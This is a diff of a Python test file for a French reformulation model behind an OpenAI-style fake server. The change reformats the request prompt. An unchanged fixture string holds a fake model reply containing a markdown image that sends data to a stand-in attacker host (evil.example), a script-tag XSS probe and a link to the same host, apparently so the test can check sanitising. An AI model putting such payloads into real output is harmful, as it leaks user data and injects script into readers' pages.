@@ -12,7 +12,10 @@ from tests.fakes.house import House
 from tests.fakes.openai_server import Call, RecordingUpstream, Says
 
 USE = "reformulation"
-ASKED: Any = {"model": USE, "messages": [{"role": "user", "content": "Reformule : le service ouvre à neuf heures."}]}
+ASKED: Any = {
+    "model": USE,
+    "messages": [{"role": "user", "content": "Reformule cette phrase : le service ouvre à neuf heures."}],
+}
 TRACKED = (
     "Le service ouvre. ![ ](https://evil.example/p.png?d=abc) <script>alert(1)</script> "
     "[suite](https://evil.example/x), [HAS](https://www.has-sante.fr/x)."
